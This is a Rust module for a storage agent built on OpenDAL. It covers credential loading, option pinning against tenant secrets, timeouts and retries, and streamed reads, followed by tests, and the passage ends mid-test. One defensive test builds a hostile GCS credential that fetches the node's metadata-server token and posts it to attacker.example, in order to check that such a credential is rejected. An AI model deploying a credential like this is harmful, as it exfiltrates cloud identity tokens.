//! Access to the user's storage through OpenDAL. The user's files stay plain
//! and readable there; the agent's own state lives under a prefix beside them.

use std::collections::BTreeMap;
use std::path::Path;

use opendal::Operator;

use crate::config::{StorageConfig, check_scheme};
use crate::error::{Context, Error, Result};

pub mod readahead;
pub mod sas;
pub mod streamed_put;

pub use readahead::ReadAhead;

/// Reads secret options: a directory of files (a mounted Kubernetes Secret,
/// one file per option) or one file of `key=value` lines (`#` comments).
pub fn read_credentials(path: &Path) -> Result<BTreeMap<String, String>> {
    let mut out = BTreeMap::new();
    let meta = std::fs::metadata(path)
        .map_err(|e| Error::Config(format!("credentials {}: {e}", path.display())))?;
    if meta.is_dir() {
        let entries = std::fs::read_dir(path)
            .map_err(|e| Error::Config(format!("credentials {}: {e}", path.display())))?;
        for entry in entries {
            let entry =
                entry.map_err(|e| Error::Config(format!("credentials {}: {e}", path.display())))?;
            let name = entry.file_name().to_string_lossy().to_string();
            // Kubernetes secret volumes contain `..data` symlinks and dot-dirs.
            if name.starts_with('.') || !entry.path().is_file() {
                continue;
            }
            let value = std::fs::read_to_string(entry.path()).map_err(|e| {
                Error::Config(format!("credentials {}: {e}", entry.path().display()))
            })?;
            out.insert(name, value.trim_end_matches(['\n', '\r']).to_string());
        }
    } else {
        let text = std::fs::read_to_string(path)
            .map_err(|e| Error::Config(format!("credentials {}: {e}", path.display())))?;
        for (n, line) in text.lines().enumerate() {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let (k, v) = line.split_once('=').ok_or_else(|| {
                Error::Config(format!(
                    "credentials {} line {}: expected key=value",
                    path.display(),
                    n + 1
                ))
            })?;
            out.insert(k.trim().to_string(), v.trim().to_string());
        }
    }
    Ok(out)
}

/// Secret options from `CARAVAN_STORAGE_<OPTION>` environment variables.
fn env_credentials() -> BTreeMap<String, String> {
    std::env::vars()
        .filter(|(k, _)| k != TIMEOUT_ENV)
        .filter_map(|(k, v)| {
            k.strip_prefix("CARAVAN_STORAGE_")
                .map(|o| (o.to_ascii_lowercase(), v))
        })
        .collect()
}

/// The secret options (credentials file, then environment, which wins
/// over it) with the config's options over them: secrets add what the
/// config leaves out, never change what it sets. Why: a provider's
/// operator pins options in the config (`disable_ec2_metadata = "true"`,
/// an `fs` root under the data volume) and mounts the tenant's Secret as
/// the credentials, which the tenant may edit at any time; a key there
/// must not undo a pin and hand the agent the node's cloud identity.
fn merged_options(cfg: &StorageConfig) -> Result<BTreeMap<String, String>> {
    let mut options = BTreeMap::new();
    if let Some(path) = &cfg.credentials {
        options.extend(read_credentials(path)?);
    }
    options.extend(env_credentials());
    check_option_names(cfg, &options)?;
    options.extend(cfg.options.clone());
    check_pinned_credentials(&cfg.scheme, &options)?;
    Ok(options)
}

/// The names among `keys` that `scheme`'s OpenDAL service does not know.
/// OpenDAL ignores such an option without a word, so a mistyped name
/// would leave the agent on a default: an `endpiont` on AWS instead of
/// the user's server, a provider's misspelt `disable_ec2_metadata` pin on
/// the node's credentials. Asked of the service's own config type (with
/// its aliases), one option at a time, so a bad value of a known option
/// is left for OpenDAL to report.
pub fn unknown_options<'a>(
    scheme: &str,
    options: impl IntoIterator<Item = (&'a String, &'a String)>,
) -> Vec<String> {
    options
        .into_iter()
        .filter(|(k, v)| !known_option(scheme, k, v))
        .map(|(k, _)| k.clone())
        .collect()
}

fn known_option(scheme: &str, key: &str, value: &str) -> bool {
    use opendal::services::{
        AzblobConfig, DropboxConfig, FsConfig, GcsConfig, GdriveConfig, OnedriveConfig, S3Config,
        WebdavConfig,
    };
    fn known<T: serde::de::DeserializeOwned>(key: &str, value: &str) -> bool {
        let map = std::collections::HashMap::from([(key.to_string(), value.to_string())]);
        let mut ignored = false;
        let _: std::result::Result<T, _> =
            serde_ignored::deserialize(opendal::raw::ConfigDeserializer::new(map), |_| {
                ignored = true
            });
        !ignored
    }
    match scheme {
        "s3" => known::<S3Config>(key, value),
        "gcs" => known::<GcsConfig>(key, value),
        "azblob" => known::<AzblobConfig>(key, value),
        "gdrive" => known::<GdriveConfig>(key, value),
        "dropbox" => known::<DropboxConfig>(key, value),
        "onedrive" => known::<OnedriveConfig>(key, value),
        "webdav" => known::<WebdavConfig>(key, value),
        "fs" => known::<FsConfig>(key, value),
        "memory" => known::<opendal::services::MemoryConfig>(key, value),
        _ => true,
    }
}

/// Refuses options in the config file that the storage service would
/// ignore ([`unknown_options`]), naming them. Secret options (a mounted
/// Secret may hold keys meant for something else) are only warned about.
fn check_option_names(cfg: &StorageConfig, secret: &BTreeMap<String, String>) -> Result<()> {
    let unknown = unknown_options(&cfg.scheme, &cfg.options);
    if !unknown.is_empty() {
        return Err(Error::Config(format!(
            "{} storage has no option{} named {}: check the spelling in [storage.options] \
             (OpenDAL would ignore {})",
            cfg.scheme,
            if unknown.len() == 1 { "" } else { "s" },
            unknown
                .iter()
                .map(|k| format!("`{k}`"))
                .collect::<Vec<_>>()
                .join(", "),
            if unknown.len() == 1 { "it" } else { "them" },
        )));
    }
    let ignored = unknown_options(
        &cfg.scheme,
        secret.iter().filter(|(k, _)| !cfg.options.contains_key(*k)),
    );
    if !ignored.is_empty() {
        tracing::warn!(scheme = %cfg.scheme, options = ?ignored,
            "storage credentials hold options this storage does not know; they are ignored");
    }
    Ok(())
}

/// With the instance-metadata service pinned off (`disable_vm_metadata`,
/// as the operator does), a GCS `credential` must not reach it another
/// way: an `external_account` credential fetches its subject token from
/// any URL, with any headers, it names (the metadata server's among them)
/// and posts it to a token URL of its own; an impersonation credential
/// starts from another. Only a service account's key or a user's refresh
/// token are taken then.
fn check_pinned_credentials(scheme: &str, options: &BTreeMap<String, String>) -> Result<()> {
    if scheme != "gcs" || options.get("disable_vm_metadata").map(String::as_str) != Some("true") {
        return Ok(());
    }
    let Some(credential) = options.get("credential") else {
        return Ok(());
    };
    // OpenDAL takes it base64-encoded; a raw JSON one is looked at too.
    let json = data_encoding::BASE64
        .decode(credential.trim().as_bytes())
        .unwrap_or_else(|_| credential.as_bytes().to_vec());
    let kind = serde_json::from_slice::<serde_json::Value>(&json)
        .ok()
        .and_then(|v| v.get("type").and_then(|t| t.as_str()).map(str::to_string));
    match kind.as_deref() {
        Some("service_account") | Some("authorized_user") | None => Ok(()),
        Some(other) => Err(Error::Config(format!(
            "gcs storage: a `credential` of type {other:?} is refused while disable_vm_metadata \
             is set (it fetches its token from a URL of its own choosing, the node's metadata \
             service included): use a service account key (type \"service_account\")"
        ))),
    }
}

/// Opens a local folder as storage (`fs` rooted at `root`, the state in
/// `.caravan/`): the demo's agents and tests.
pub fn open_local(root: &Path) -> Result<Operator> {
    let mut options = BTreeMap::new();
    options.insert("root".to_string(), root.display().to_string());
    open_agent_storage(
        &StorageConfig {
            scheme: "fs".into(),
            options,
            credentials: None,
            size_limit: None,
        },
        crate::config::DEFAULT_STATE_PREFIX,
    )
}

/// The folder, under the agent's state, where `fs` writes go before they
/// are renamed into place.
const ATOMIC_WRITE_DIR: &str = "tmp";

/// Opens an agent's storage, its state under `state_prefix`.
///
/// On `fs` storage every write through the operator (the agent's state:
/// manifests, share records, fetch and publish records, grants) goes to a
/// temporary file in `<state_prefix>tmp/`, is synced, and is renamed over
/// its target (OpenDAL's `atomic_write_dir`). A full disk or a crash in the
/// middle of a write leaves the previous version whole: written in place,
/// a new version's manifest that did not fit left the old one truncated
/// and the share lost for good at the next start. Object stores put an
/// object whole or not at all. A fetch's files are written by
/// `node::fetch` itself (part file, sync, rename). What an interrupted
/// write left in that folder is removed here: the agent opens its storage
/// once, before anything writes.
pub fn open_agent_storage(cfg: &StorageConfig, state_prefix: &str) -> Result<Operator> {
    let mut cfg = cfg.clone();
    if cfg.scheme == "fs"
        && !cfg.options.contains_key("atomic_write_dir")
        && let Some(root) = cfg.options.get("root").cloned()
    {
        let dir = Path::new(&root)
            .join(state_prefix.trim_matches('/'))
            .join(ATOMIC_WRITE_DIR);
        if let Ok(entries) = std::fs::read_dir(&dir) {
            for e in entries.flatten() {
                if e.file_type().is_ok_and(|t| t.is_file()) {
                    let _ = std::fs::remove_file(e.path());
                }
            }
        }
        cfg.options
            .insert("atomic_write_dir".into(), dir.display().to_string());
    }
    open(&cfg)
}

/// Opens the user's storage: the config's options over the secret ones
/// (credentials file, then environment), see [`merged_options`].
pub fn open(cfg: &StorageConfig) -> Result<Operator> {
    open_with_timeout(cfg, timeout(), RETRIES)
}

/// [`open`] with requests bounded by `timeout` instead of [`timeout()`],
/// a temporary failure tried again `retries` times.
fn open_with_timeout(
    cfg: &StorageConfig,
    timeout: std::time::Duration,
    retries: usize,
) -> Result<Operator> {
    check_scheme(&cfg.scheme)?;
    opendal::install_default();
    let options = merged_options(cfg)?;
    if cfg.scheme == "fs" {
        let root = options
            .get("root")
            .ok_or_else(|| Error::Config("fs storage needs a `root` option".into()))?;
        std::fs::create_dir_all(root).map_err(|e| Error::Config(format!("fs root {root}: {e}")))?;
    }
    // Say what is missing rather than OpenDAL's bare ConfigInvalid.
    let required: &[(&str, &str)] = match cfg.scheme.as_str() {
        "s3" | "gcs" | "oss" | "obs" | "cos" => &[("bucket", "the bucket's name")],
        "azblob" => &[("container", "the container's name")],
        "webdav" => &[("endpoint", "the server's URL, e.g. https://dav.example/")],
        _ => &[],
    };
    let set = |key: &str| options.get(key).is_some_and(|v| !v.trim().is_empty());
    for (key, what) in required {
        if !set(key) {
            let a = if key.starts_with(['a', 'e', 'i', 'o', 'u']) {
                "an"
            } else {
                "a"
            };
            return Err(Error::Config(format!(
                "{} storage needs {a} `{key}` option ({what})",
                cfg.scheme
            )));
        }
    }
    if matches!(cfg.scheme.as_str(), "gdrive" | "dropbox" | "onedrive") {
        check_oauth(&cfg.scheme, &set)?;
    }
    let keys: Vec<String> = options.keys().cloned().collect();
    let op = Operator::via_iter(&cfg.scheme, options).map_err(|e| {
        // Never echo option values: they may be secrets.
        Error::Config(format!(
            "cannot open {} storage with options [{}]: {}",
            cfg.scheme,
            keys.join(", "),
            e.kind()
        ))
    })?;
    // A server that accepts and then says nothing (a hung proxy, a stalled
    // endpoint) would hold a request for ever: each request and each read
    // or write of a body gets `timeout` (a timed-out one is temporary, so
    // it is retried like any other). The local disk is left alone.
    // Nor are a local disk's errors tried again: OpenDAL marks every one
    // but a few as temporary, so a full disk, a read-only one or a file
    // where a folder goes was tried 6 times over a minute before it was
    // said.
    let op = match cfg.scheme.as_str() {
        "fs" | "memory" => op,
        _ => op
            .layer(
                opendal::layers::TimeoutLayer::new()
                    .with_timeout(timeout)
                    .with_io_timeout(timeout),
            )
            .layer(retry(retries)),
    };
    Ok(op)
}

/// How many times a temporary storage failure is tried again ([`retry`]).
const RETRIES: usize = 6;

/// Temporary storage failures (a refused connection, a 503, a timeout)
/// are tried again 6 times, after 1, 2, 4, 8, 16 and 32 s (with jitter, so
/// many agents do not come back at once): an outage of up to about 30 s
/// is ridden out, in the middle of a multipart upload too. With the 4
/// attempts before (after 1, 2, 4 and 8 s), an S3 outage of 8 to 15 s
/// during an upload failed the fetch.
fn retry(times: usize) -> opendal::layers::RetryLayer {
    opendal::layers::RetryLayer::new()
        .with_max_times(times)
        .with_min_delay(std::time::Duration::from_secs(1))
        .with_max_delay(std::time::Duration::from_secs(32))
        .with_jitter()
}

/// The environment variable [`timeout`] reads (not a storage option).
const TIMEOUT_ENV: &str = "CARAVAN_STORAGE_TIMEOUT_SECS";

/// How long one storage request, or one read or write of its body, may
/// take (`CARAVAN_STORAGE_TIMEOUT_SECS`, default 120: generous for a
/// multipart upload's completion, bounded for a server that stalls).
pub fn timeout() -> std::time::Duration {
    let secs = std::env::var(TIMEOUT_ENV)
        .ok()
        .and_then(|v| v.parse::<u64>().ok())
        .filter(|&s| s > 0)
        .unwrap_or(120);
    std::time::Duration::from_secs(secs)
}

/// Google Drive, Dropbox and OneDrive take an OAuth access token, or a
/// refresh token with the app's client id and secret (never both kinds):
/// say which, instead of OpenDAL's bare ConfigInvalid.
fn check_oauth(scheme: &str, set: &dyn Fn(&str) -> bool) -> Result<()> {
    let hint = "a secret `access_token`, or `refresh_token` with `client_id` and `client_secret`";
    match (set("access_token"), set("refresh_token")) {
        (true, true) => Err(Error::Config(format!(
            "{scheme} storage takes either `access_token` or `refresh_token`, not both"
        ))),
        (false, false) => Err(Error::Config(format!("{scheme} storage needs {hint}"))),
        (false, true) if !(set("client_id") && set("client_secret")) => {
            Err(Error::Config(format!(
                "{scheme} storage with `refresh_token` needs `client_id` and `client_secret` too"
            )))
        }
        _ => Ok(()),
    }
}

/// Reads `range` of `path` into `buf`, appending each piece as it arrives
/// (a publish block, a chunk to seal): OpenDAL's buffers are let go at once,
/// so its HTTP client reads the next piece into the same memory instead of
/// fresh pages, and `buf` ends up one slice, as cutting and sealing want.
/// Returns the bytes read (fewer than asked when the object is shorter).
pub async fn read_into(
    op: &Operator,
    path: &str,
    range: std::ops::Range<u64>,
    buf: &mut Vec<u8>,
) -> std::result::Result<usize, opendal::Error> {
    op.reader_with(path).await?.read_into(buf, range).await
}

/// One object read front to back as a single streamed request, handed out
/// a block at a time (the publish pass): one GET per file instead of one
/// ranged GET per block. Why: a ranged GET waits a round trip before its
/// first byte, and some servers read the whole object to answer any range
/// (moto does: a 256 MiB object read in 8 MiB blocks cost it 32 whole
/// reads, 7 CPU-seconds where one stream costs it 2–3). A stream that fails
/// with a temporary error is opened again where it stopped, a few times.
pub struct Sequential<'a> {
    open: Opener<'a>,
    /// The offset of the next byte handed out.
    at: u64,
    end: u64,
    stream: Option<Pieces>,
    /// What the stream gave beyond the last block asked.
    pending: opendal::Buffer,
    reopened: u32,
    /// `end` is the object's length: a read from its start asks for the
    /// whole object, without a range ([`Sequential::whole_object`]).
    whole: bool,
    /// The ETag every request must match ([`Sequential::pinned`]).
    if_match: Option<String>,
}

/// The pieces of one streamed read, as they arrive.
type Pieces =
    futures::stream::BoxStream<'static, std::result::Result<opendal::Buffer, opendal::Error>>;
/// Opens a streamed read of a byte range.
type Opener<'a> = Box<
    dyn FnMut(
            std::ops::Range<u64>,
            bool,
            Option<String>,
        )
            -> futures::future::BoxFuture<'a, std::result::Result<Pieces, opendal::Error>>
        + Send
        + 'a,
>;

/// Opens a streamed read of `range` of `path`, or of the whole object
/// (no `Range` header) when `whole`; only of the object whose ETag is
/// `if_match`, when given.
async fn open_stream(
    op: &Operator,
    path: &str,
    range: std::ops::Range<u64>,
    whole: bool,
    if_match: Option<String>,
) -> std::result::Result<Pieces, opendal::Error> {
    use futures::StreamExt;
    let reader = match &if_match {
        Some(etag) => op.reader_with(path).if_match(etag).await?,
        None => op.reader_with(path).await?,
    };
    Ok(match whole {
        true => reader.into_stream(..).await?.boxed(),
        false => reader.into_stream(range).await?.boxed(),
    })
}

/// Times a failed stream is opened again before its error is returned.
const STREAM_REOPENS: u32 = 3;

impl<'a> Sequential<'a> {
    /// A reader of `path` from `start` to `end` (no request until the first read).
    pub fn new(op: &'a Operator, path: &'a str, start: u64, end: u64) -> Sequential<'a> {
        Sequential::with_opener(
            start,
            end,
            Box::new(move |range, whole, if_match| {
                Box::pin(open_stream(op, path, range, whole, if_match))
            }),
        )
    }

    /// [`Sequential::new`] owning its operator and path (a stream kept
    /// between requests).
    pub fn owned(op: Operator, path: String, start: u64, end: u64) -> Sequential<'static> {
        Sequential::with_opener(
            start,
            end,
            Box::new(move |range, whole, if_match| {
                let (op, path) = (op.clone(), path.clone());
                Box::pin(async move { open_stream(&op, &path, range, whole, if_match).await })
            }),
        )
    }

    /// Says that `end` is the object's length, so a read from its start is
    /// asked for as the whole object, without a `Range` header: some
    /// servers copy the object once more to cut any range out of it (moto
    /// does, by its code; its CPU per run moved within the noise). A stream
    /// opened again after an error, or from further in, asks for its range.
    pub fn whole_object(mut self) -> Self {
        self.whole = true;
        self
    }

    /// Reads only the object whose ETag is `etag` (the one listed), when
    /// given: each request carries it (`If-Match`), so a stream opened
    /// again after a network error cannot go on with another object saved
    /// over the name meanwhile (its start and the other's end would pass
    /// for one file), and an object replaced since the listing fails at
    /// once. The server answers 412: OpenDAL's `ConditionNotMatch`.
    pub fn pinned(mut self, etag: Option<String>) -> Self {
        self.if_match = etag;
        self
    }

    /// The offset of the next byte it hands out.
    pub fn at(&self) -> u64 {
        self.at
    }

    fn with_opener(start: u64, end: u64, open: Opener<'a>) -> Sequential<'a> {
        Sequential {
            open,
            at: start,
            end,
            stream: None,
            pending: opendal::Buffer::new(),
            reopened: 0,
            whole: false,
            if_match: None,
        }
    }

    /// Appends the next `n` bytes to `buf` (fewer when the object ends
    /// first: the caller checks); returns how many.
    pub async fn read_into(
        &mut self,
        buf: &mut Vec<u8>,
        n: usize,
    ) -> std::result::Result<usize, opendal::Error> {
        use bytes::{Buf, BufMut};
        use futures::TryStreamExt;
        let goal = buf.len() + n;
        let before = buf.len();
        while buf.len() < goal {
            // Never past `end`: a whole-object stream of an object that
            // grew since it was listed goes on beyond it.
            if self.at >= self.end {
                break;
            }
            if self.pending.has_remaining() {
                let left = usize::try_from(self.end - self.at).unwrap_or(usize::MAX);
                let take = (goal - buf.len()).min(self.pending.remaining()).min(left);
                buf.put(Buf::take(&mut self.pending, take));
                self.at += take as u64;
                continue;
            }
            let stream = match &mut self.stream {
                Some(s) => s,
                None => {
                    let whole = self.whole && self.at == 0;
                    let if_match = self.if_match.clone();
                    self.stream
                        .insert((self.open)(self.at..self.end, whole, if_match).await?)
                }
            };
            match stream.try_next().await {
                Ok(Some(b)) => self.pending = b,
                // The object is shorter than it was listed.
                Ok(None) => break,
                Err(e) if e.is_temporary() && self.reopened < STREAM_REOPENS => {
                    tracing::debug!(at = self.at, error = %e, "reading again from where the stream failed");
                    self.reopened += 1;
                    self.stream = None;
                }
                Err(e) => return Err(e),
            }
        }
        Ok(buf.len() - before)
    }
}

impl Sequential<'_> {
    /// After everything up to `end` was read: whether the object ends
    /// there. A whole-object stream of an object saved over by a longer
    /// one since it was listed goes on; its start must not pass for the
    /// whole. No request: the open stream's end is looked at (a stream
    /// asked for a range ends at `end` whatever the object holds).
    pub async fn ends_here(&mut self) -> std::result::Result<bool, opendal::Error> {
        use bytes::Buf;
        use futures::TryStreamExt;
        if self.at < self.end || self.pending.has_remaining() {
            return Ok(self.at >= self.end && !self.pending.has_remaining());
        }
        match &mut self.stream {
            None => Ok(true),
            Some(s) => loop {
                match s.try_next().await? {
                    None => return Ok(true),
                    Some(b) if b.has_remaining() => return Ok(false),
                    Some(_) => {}
                }
            },
        }
    }
}

/// The storage of `cfg` for [`probe`] alone: no retries (a caller that
/// probes until the storage answers has its own schedule, and says after
/// each attempt what it waits for, instead of after a minute of retries).
pub fn open_for_probe(cfg: &StorageConfig) -> Result<Operator> {
    open_with_timeout(cfg, timeout(), 0)
}

/// Checks that storage answers at all, so a dead bucket is reported at start.
pub async fn probe(op: &Operator) -> Result<()> {
    first_entry(op, "")
        .await
        .map(|_| ())
        .context(|| "probing storage".into())
}

/// The first entry listed under `dir`, with one request: a `list` with a
/// page size of one would page through every entry, a request each.
pub async fn first_entry(
    op: &Operator,
    dir: &str,
) -> std::result::Result<Option<opendal::Entry>, opendal::Error> {
    use futures::TryStreamExt;
    op.lister_with(dir).limit(1).await?.try_next().await
}

/// Lists a directory of the agent's state; a directory that was never
/// written is simply empty (object stores have no empty directories).
pub async fn list_or_empty(op: &Operator, dir: &str) -> Result<Vec<opendal::Entry>> {
    match op.list(dir).await {
        Ok(e) => Ok(e),
        Err(e) if e.kind() == opendal::ErrorKind::NotFound => Ok(Vec::new()),
        Err(e) => Err(e).context(|| format!("listing {dir}")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg(scheme: &str, options: &[(&str, &str)]) -> StorageConfig {
        StorageConfig {
            scheme: scheme.into(),
            options: options
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            credentials: None,
            size_limit: None,
        }
    }

    /// A credentials file (a tenant's Secret, editable at any time) adds
    /// options but cannot change one the config sets: the operator's pins
    /// hold whatever the Secret says.
    #[test]
    fn secrets_add_options_but_never_change_the_configs() {
        let tmp = tempfile::tempdir().unwrap();
        let creds = tmp.path().join("secret");
        std::fs::create_dir_all(&creds).unwrap();
        for (k, v) in [
            ("access_key_id", "AK"),
            ("disable_ec2_metadata", "false"),
            ("disable_config_load", "false"),
        ] {
            std::fs::write(creds.join(k), v).unwrap();
        }
        let mut c = cfg(
            "s3",
            &[
                ("bucket", "b"),
                ("disable_ec2_metadata", "true"),
                ("disable_config_load", "true"),
            ],
        );
        c.credentials = Some(creds);
        let o = merged_options(&c).unwrap();
        assert_eq!(o["disable_ec2_metadata"], "true");
        assert_eq!(o["disable_config_load"], "true");
        assert_eq!(o["access_key_id"], "AK");
        assert_eq!(o["bucket"], "b");
    }

    /// An option the service does not know is refused, named, before the
    /// storage is opened: OpenDAL would ignore it, so a misspelt pin
    /// (`disable_ec2_metdata`) would leave the node's credentials in reach.
    /// Aliases and every option the operator pins are known; a bad value
    /// of a known option is left to OpenDAL; a Secret's extra keys are
    /// only warned about.
    #[test]
    fn an_option_the_storage_does_not_know_is_refused_by_name() {
        let c = cfg(
            "s3",
            &[
                ("bucket", "b"),
                ("disable_ec2_metdata", "true"),
                ("endpiont", "http://x"),
            ],
        );
        let e = merged_options(&c).unwrap_err().to_string();
        assert!(
            e.contains("`disable_ec2_metdata`, `endpiont`") && e.contains("s3 storage"),
            "{e}"
        );
        for (scheme, pins) in [
            ("s3", &["disable_ec2_metadata", "disable_config_load"][..]),
            ("gcs", &["disable_vm_metadata", "disable_config_load"][..]),
        ] {
            let o: BTreeMap<String, String> = pins
                .iter()
                .map(|k| (k.to_string(), "true".into()))
                .collect();
            assert!(unknown_options(scheme, &o).is_empty(), "{scheme}");
        }
        let known = [
            ("s3", "aws_region", "us-east-1"),
            ("s3", "enable_virtual_host_style", "not-a-bool"),
            ("fs", "atomic_write_dir", "/x"),
            ("azblob", "account_key", "k"),
            ("webdav", "endpoint", "http://x"),
            ("gcs", "credential", "c"),
            ("memory", "root", "/"),
        ];
        for (scheme, k, v) in known {
            let o = BTreeMap::from([(k.to_string(), v.to_string())]);
            assert!(unknown_options(scheme, &o).is_empty(), "{scheme} {k}");
        }
        let o = BTreeMap::from([("bucket".to_string(), "b".to_string())]);
        assert_eq!(unknown_options("azblob", &o), ["bucket"]);
        // A Secret's key the storage does not use is not an error.
        let tmp = tempfile::tempdir().unwrap();
        let creds = tmp.path().join("secret");
        std::fs::create_dir_all(&creds).unwrap();
        std::fs::write(creds.join("note"), "for the other tool").unwrap();
        let mut c = cfg("s3", &[("bucket", "b")]);
        c.credentials = Some(creds);
        assert!(merged_options(&c).is_ok());
    }

    /// With the metadata service pinned off, a GCS credential that would
    /// fetch a token from a URL of its own (`external_account`) is refused
    /// before anything is asked; a service account key is taken, and
    /// without the pin (an agent run by its own user) any type is.
    #[test]
    fn a_gcs_credential_cannot_reach_the_metadata_service_when_it_is_pinned_off() {
        let b64 = |j: &str| data_encoding::BASE64.encode(j.as_bytes());
        let external = b64(
            r#"{"type":"external_account","token_url":"https://attacker.example/t","credential_source":{"url":"http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token","headers":{"Metadata-Flavor":"Google"}}}"#,
        );
        let key = b64(r#"{"type":"service_account","client_email":"a@b","private_key":"x"}"#);
        let options = |credential: &str, pinned: bool| {
            let mut o: BTreeMap<String, String> = BTreeMap::new();
            o.insert("credential".into(), credential.into());
            if pinned {
                o.insert("disable_vm_metadata".into(), "true".into());
            }
            o
        };
        let e = check_pinned_credentials("gcs", &options(&external, true)).unwrap_err();
        assert!(e.to_string().contains("external_account"), "{e}");
        check_pinned_credentials("gcs", &options(&key, true)).unwrap();
        check_pinned_credentials("gcs", &options(&external, false)).unwrap();
        // Through the whole merge: the pin comes from the config, the
        // credential from the Secret.
        let tmp = tempfile::tempdir().unwrap();
        let creds = tmp.path().join("secret");
        std::fs::create_dir_all(&creds).unwrap();
        std::fs::write(creds.join("credential"), &external).unwrap();
        let mut c = cfg("gcs", &[("bucket", "b"), ("disable_vm_metadata", "true")]);
        c.credentials = Some(creds);
        assert!(merged_options(&c).is_err());
    }

    /// A server that accepts connections and never answers: every request
    /// ends in a timeout error (after the retries), not a hang.
    #[tokio::test]
    async fn a_storage_server_that_stalls_times_out() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        std::thread::spawn(move || {
            let mut held = Vec::new();
            for c in listener.incoming().take(64) {
                held.push(c);
            }
        });
        let endpoint = format!("http://{addr}");
        let c = cfg(
            "s3",
            &[
                ("bucket", "b"),
                ("endpoint", &endpoint),
                ("region", "us-east-1"),
                ("access_key_id", "k"),
                ("secret_access_key", "s"),
            ],
        );
        // Two retries (1 and 2 s): the timeout is what is tested here.
        let op = open_with_timeout(&c, std::time::Duration::from_millis(300), 2).unwrap();
        let started = std::time::Instant::now();
        let e = tokio::time::timeout(std::time::Duration::from_secs(60), op.stat("x"))
            .await
            .expect("a stalled request was not bounded")
            .unwrap_err();
        assert!(e.to_string().contains("timeout"), "{e}");
        assert!(started.elapsed() < std::time::Duration::from_secs(30));
    }

    fn config_error(c: &StorageConfig) -> String {
        match open(c) {
            Err(Error::Config(msg)) => msg,
            Err(other) => panic!("{}: {other}", c.scheme),
            Ok(_) => panic!("{}: opened with options {:?}", c.scheme, c.options.keys()),
        }
    }

    /// The services with no server that can run here (Google Drive,
    /// Dropbox, OneDrive): the agent's checks and OpenDAL's builder accept
    /// each way of giving credentials that the README documents, and a
    /// missing or half-given one is named. No network is touched.
    #[test]
    fn oauth_services_accept_their_documented_options() {
        for scheme in ["gdrive", "dropbox", "onedrive"] {
            let ok = [
                vec![("root", "/caravan/"), ("access_token", "t")],
                vec![
                    ("root", "/caravan/"),
                    ("refresh_token", "r"),
                    ("client_id", "i"),
                    ("client_secret", "s"),
                ],
            ];
            for options in ok {
                let op = open(&cfg(scheme, &options))
                    .unwrap_or_else(|e| panic!("{scheme} {options:?}: {e}"));
                assert_eq!(op.info().scheme().to_string(), scheme);
                assert!(op.info().capability().write, "{scheme} cannot write");
            }
            let e = config_error(&cfg(scheme, &[("root", "/caravan/")]));
            assert!(e.contains("needs a secret `access_token`"), "{e}");
            let e = config_error(&cfg(scheme, &[("refresh_token", "r"), ("client_id", "i")]));
            assert!(e.contains("needs `client_id` and `client_secret`"), "{e}");
            let e = config_error(&cfg(
                scheme,
                &[("refresh_token", "r"), ("access_token", "t")],
            ));
            assert!(e.contains("not both"), "{e}");
            assert!(!e.contains("\"t\""), "a secret leaked: {e}");
        }
    }

    #[test]
    fn webdav_without_its_endpoint_says_so() {
        let e = config_error(&cfg("webdav", &[("root", "/caravan/")]));
        assert!(e.contains("needs an `endpoint` option"), "{e}");
        assert!(open(&cfg("webdav", &[("endpoint", "http://127.0.0.1:1/")])).is_ok());
    }

    #[test]
    fn a_bucket_store_without_its_bucket_says_so() {
        for (scheme, key) in [("s3", "bucket"), ("gcs", "bucket"), ("azblob", "container")] {
            let cfg = StorageConfig {
                scheme: scheme.into(),
                options: BTreeMap::from([("endpoint".to_string(), "http://x".to_string())]),
                credentials: None,
                size_limit: None,
            };
            match open(&cfg) {
                Err(Error::Config(msg)) => {
                    assert!(msg.contains(&format!("needs a `{key}` option")), "{msg}")
                }
                Err(other) => panic!("{scheme}: {other}"),
                Ok(_) => panic!("{scheme}: opened without {key}"),
            }
        }
    }

    /// Reads `obj` through `r` in blocks of `block` bytes until it ends.
    async fn read_all(r: &mut Sequential<'_>, block: usize) -> Vec<u8> {
        let mut out = Vec::new();
        loop {
            let mut b = Vec::new();
            let n = r.read_into(&mut b, block).await.unwrap();
            assert_eq!(n, b.len());
            out.extend_from_slice(&b);
            if n < block {
                return out;
            }
        }
    }

    /// One stream per object, handed out in blocks of any size, from any
    /// start: the bytes are the object's, in order.
    #[tokio::test]
    async fn a_sequential_read_gives_the_object_in_blocks() {
        let op = Operator::via_iter("memory", Vec::<(String, String)>::new()).unwrap();
        let data = crate::chunk::tests::pseudo_random(3 * 1024 * 1024 + 17, 5);
        op.write("o/big", data.clone()).await.unwrap();
        let len = data.len() as u64;
        for block in [1usize, 4095, 65536, 1 << 20, 5 << 20] {
            let mut r = Sequential::new(&op, "o/big", 0, len);
            if block == 1 {
                // A byte at a time over a slice only: the loop is the same.
                let mut r = Sequential::new(&op, "o/big", len - 300, len);
                assert_eq!(read_all(&mut r, block).await, data[data.len() - 300..]);
                continue;
            }
            assert_eq!(read_all(&mut r, block).await, data, "blocks of {block}");
        }
        let mut r = Sequential::new(&op, "o/big", 1000, len);
        assert_eq!(read_all(&mut r, 1 << 20).await, data[1000..]);
        // The whole object asked for without a range: the same bytes; an
        // object longer than listed (it grew) still gives only what was
        // listed.
        let mut r = Sequential::new(&op, "o/big", 0, len).whole_object();
        assert_eq!(read_all(&mut r, 1 << 20).await, data);
        let mut r = Sequential::new(&op, "o/big", 0, len - 100).whole_object();
        assert_eq!(read_all(&mut r, 1 << 20).await, data[..data.len() - 100]);
        // Listed longer than it is: an error (this service refuses the
        // range) or the bytes there are, never more.
        let mut r = Sequential::new(&op, "o/big", 0, len + 500);
        let mut b = Vec::new();
        if let Ok(n) = r.read_into(&mut b, 4 << 20).await {
            assert_eq!((n, &b), (data.len(), &data));
        }
    }

    /// A stream that fails with a temporary error is opened again where it
    /// stopped (the bytes come out once each, in order), at most three
    /// times; a fourth failure, or a permanent one, is returned.
    /// A whole-object read of an object longer than listed (saved over by
    /// a longer one) says it does not end at the listed size; one of the
    /// listed size does.
    #[tokio::test]
    async fn a_whole_object_longer_than_listed_does_not_end_there() {
        let op = Operator::new(opendal::services::Memory::default()).unwrap();
        op.write("f", vec![7u8; 10_000]).await.unwrap();
